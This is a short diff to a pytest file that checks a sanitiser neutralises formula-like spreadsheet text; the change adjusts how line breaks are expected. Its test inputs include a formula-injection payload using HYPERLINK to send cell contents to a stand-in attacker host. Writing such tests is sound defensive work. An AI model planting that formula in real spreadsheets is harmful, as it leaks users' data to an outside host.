@@ -15,7 +15,7 @@ ATTACKS = ['=HYPERLINK("http://evil.example/?d="&A1,"click")', "=1+1", "@SUM(A1)
 
 @pytest.mark.parametrize("text", ATTACKS)
 def test_formula_like_text_is_neutralised(text):
-    assert publish.safe_text(text) == "'" + text
+    assert publish.safe_text(text) == "'" + text.replace("\r", "\n")  # line breaks as LF
 
 
 @pytest.mark.parametrize("value", ["-1.3", "+2,0", "-0.1", "+1", "12.5%", "p < 0.001", "KZ-PAV-D01", 3, -2.5, None])
